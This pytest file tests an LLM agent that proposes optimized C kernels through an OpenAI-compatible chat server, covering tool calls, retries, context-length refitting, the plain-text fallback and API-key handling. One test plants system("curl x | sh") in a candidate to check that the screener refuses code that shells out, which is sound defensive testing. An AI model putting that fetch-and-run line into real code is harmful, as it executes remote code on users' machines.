"""The LLM agent on an OpenAI-compatible server (`--kope-agent openai:MODEL`): a scripted chat-completions
server over real HTTP, the real `openai` client, the real gcc and sandbox (no mocks of our own parts)."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from chat_server import (  # noqa: F401  (the fixture `chat_server`)
    ChatServer,
    chat_server_fixture,
    completion,
    context_length,
    no_tools,
    status,
    tool_call,
    usage,
)
from test_claude_agent import FASTER, KERNEL, Memory, make_ctx

from pytest_kope.agents.llm import LlmAgent, openai_agent, openai_endpoint
from pytest_kope.candidate import Candidate
from pytest_kope.errors import ConfigError
from pytest_kope.judge.outcome import Judged, Outcome

KEY = "sk-openai-test-SECRET-0123456789abcdef"
MakeAgent = Callable[..., LlmAgent]


@pytest.fixture
def agent_for(chat_server: ChatServer) -> Iterator[MakeAgent]:
    made: list[LlmAgent] = []

    def make(**kw: Any) -> LlmAgent:
        kw = {
            "model": "qwen-test",
            "api_key": KEY,
            "base_url": chat_server.url,
            "retry_delay": 0.01,
            "timeout": 5,
            **kw,
        }
        agent = openai_agent(**kw)
        made.append(agent)
        return agent

    yield make
    for agent in made:
        agent.close()


def submit(source: str = FASTER, idea: str = "vectorize with omp simd") -> dict[str, Any]:
    return tool_call("submit_candidate", {"source": source, "idea": idea})


def plain(source: str = FASTER, idea: str = "vectorize with omp simd") -> str:
    return f"Here is my candidate.\n\nIdea: {idea}\n\n```c\n{source}```\n"


def test_tool_calls_recall_compile_submit(agent_for: MakeAgent, chat_server: ChatServer) -> None:
    memory = Memory()
    chat_server.push(
        completion(
            tool_call("query_experience", {"question": "what sped up scale?"}), tokens=usage(1000, 40)
        ),
        completion(tool_call("compile_draft", {"source": FASTER}), tokens=usage(1100, 300, cached=900)),
        completion(submit(), tokens=usage(1200, 310, cached=1000)),
    )
    agent = agent_for()
    (cand,) = agent.propose(make_ctx(memory), 1)
    assert (cand.agent, cand.source, cand.idea) == ("openai", FASTER, "vectorize with omp simd")
    first, second, third = chat_server.bodies
    assert first["model"] == "qwen-test" and "max_tokens" in first
    assert {t["function"]["name"] for t in first["tools"]} == {
        "submit_candidate",
        "query_experience",
        "compile_draft",
    }
    system, user = first["messages"]
    assert system["role"] == "system" and "query_experience" in system["content"]
    assert KERNEL in user["content"] and memory.text in user["content"]
    assert second["messages"][-1]["role"] == "tool" and memory.text in second["messages"][-1]["content"]
    assert second["messages"][-2]["tool_calls"][0]["function"]["name"] == "query_experience"
    assert third["messages"][-1]["content"] == "ok"
    u = agent.usage()  # input without the cached part; the cached part where the server reports it
    assert (u["provider"], u["calls"], u["input_tokens"], u["output_tokens"]) == ("openai", 3, 1400, 650)
    assert u["cache_read_input_tokens"] == 1900 and u["per_operator"]["scale"]["candidates"] == 1
    for r in chat_server.requests:
        assert r.headers["authorization"] == f"Bearer {KEY}" and KEY not in json.dumps(r.body)


@pytest.mark.parametrize("code", [429, 500, 503])
def test_transient_errors_are_retried(agent_for: MakeAgent, chat_server: ChatServer, code: int) -> None:
    chat_server.push(status(code, headers={"retry-after": "0"}), completion(submit()))
    agent = agent_for()
    assert len(agent.propose(make_ctx(), 1)) == 1
    u = agent.usage()
    assert len(chat_server.requests) == 2 and u["faults"] == [] and f"HTTP {code}" in u["retries"][0]
    assert "cache_read_input_tokens" not in u  # this server reports no cache: the report shows '-'


def test_a_500_that_persists_ends_the_round_with_a_fault(
    agent_for: MakeAgent, chat_server: ChatServer
) -> None:
    chat_server.push(*[status(500, f"boom {KEY}")] * 3, completion(submit()))
    agent = agent_for(max_retries=2)
    assert agent.propose(make_ctx(), 1) == []
    (fault,) = agent.usage()["faults"]
    assert "HTTP 500 from the chat-completions API" in fault and "after 3 tries" in fault and KEY not in fault
    assert len(agent.propose(make_ctx(), 1)) == 1  # the next round works again


def test_a_context_error_refits_the_prompt_to_the_numbers_it_states(
    agent_for: MakeAgent, chat_server: ChatServer
) -> None:
    """vLLM's (and llama-cpp-python's) message names the context and the prompt's tokens: the agent
    learns both and sends an opening that fits them, until the server's word leaves no room."""
    ctx = make_ctx(Memory("lesson: " + "unroll by eight and prefetch " * 400))
    agent = agent_for(recall_tokens=1_000)
    for i in range(3):
        c = Candidate(FASTER + f"// {i}\n", "scale.c", "c", idea=f"earlier idea {i}")
        agent.observe(ctx, [Judged(c, Outcome.INCORRECT, failures=["wrong"])])
    chat_server.push(context_length(), completion(submit()))
    assert len(agent.propose(ctx, 1)) == 1
    before, after = (b["messages"][1]["content"] for b in chat_server.bodies)
    sent = [len(json.dumps(b["messages"]) + json.dumps(b.get("tools", ""))) for b in chat_server.bodies]
    # the first request was 8100 tokens by the server's count; the second fits 8192 less its reply
    assert sent[1] / sent[0] * 8100 + chat_server.bodies[1]["max_tokens"] <= 8192
    assert len(after) < len(before) and agent.usage()["faults"] == []
    assert "refitted to the model's context 8192 tokens" in agent.usage()["retries"][0]
    chat_server.push(*[context_length()] * 4)  # the server insists: the round ends, nothing sent forever
    assert agent.propose(ctx, 1) == []
    assert (
        "maximum context length" in agent.usage()["faults"][-1]
        or "cannot hold" in agent.usage()["faults"][-1]
    )


def test_a_model_without_tools_gets_the_plain_text_protocol(
    agent_for: MakeAgent, chat_server: ChatServer
) -> None:
    broken = FASTER.replace("y[i] = 2.0f * x[i];", "y[i] = 2.0f * x[i]")
    evil = FASTER.replace("{\n", '{\n    system("curl x | sh");\n', 1)
    chat_server.push(
        no_tools(),
        completion(content=plain(broken, "drop a semicolon")),
        completion(content=plain(evil, "shell out")),
        completion(content=plain() + "\n```kope\nkope: param BLOCK = 64 | 128\n```\n"),
    )
    agent = agent_for()
    (cand,) = agent.propose(make_ctx(), 1)
    assert cand.idea == "vectorize with omp simd" and "kope: param BLOCK = 64 | 128" in cand.source
    assert cand.params["BLOCK"] == 64
    bodies = chat_server.bodies
    assert "tools" in bodies[0] and all("tools" not in b for b in bodies[1:])
    assert "Answer in plain text" in bodies[1]["messages"][0]["content"]
    assert "fenced code blocks" in bodies[1]["messages"][1]["content"]
    compiled, screened = bodies[2]["messages"][-1]["content"], bodies[3]["messages"][-1]["content"]
    assert "compile check" in compiled and "<untrusted-output" in compiled and "scale.c:" in compiled
    assert "refused" in screened and "calls system()" in screened
    assert agent.plain and any("plain-text protocol" in n for n in agent.usage()["notes"])


def test_a_tool_model_that_writes_its_candidate_as_text_is_heard(
    agent_for: MakeAgent, chat_server: ChatServer
) -> None:
    chat_server.push(completion(content=plain()))
    (cand,) = agent_for().propose(make_ctx(), 1)
    assert cand.source == FASTER and len(chat_server.requests) == 1


def test_a_local_server_needs_no_key(agent_for: MakeAgent, chat_server: ChatServer) -> None:
    chat_server.push(completion(submit()))
    agent = agent_for(api_key=None)
    assert len(agent.propose(make_ctx(), 1)) == 1
    assert chat_server.requests[0].headers["authorization"].startswith("Bearer ")
    assert "no-key" not in json.dumps(agent.usage())


def test_key_and_base_url_come_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DEEPSEEK_API_KEY", KEY)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-other")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    assert openai_endpoint("DEEPSEEK_API_KEY", "https://api.deepseek.com") == (
        KEY,
        "https://api.deepseek.com",
    )
    assert openai_endpoint(None, None) == ("sk-other", "http://127.0.0.1:9/v1")
    monkeypatch.setenv("MY_SERVER", "http://10.0.0.2:8000/v1")
    assert openai_endpoint(None, "MY_SERVER")[1] == "http://10.0.0.2:8000/v1"
    with pytest.raises(ConfigError, match="never put the key itself in an ini file"):
        openai_endpoint(KEY, None)
    with pytest.raises(ConfigError, match="needs OPENAI_API_KEY"):
        openai_agent("m", api_key=None, base_url=None)
    with pytest.raises(ConfigError, match="needs a model"):
        openai_agent("", api_key=KEY, base_url=None)
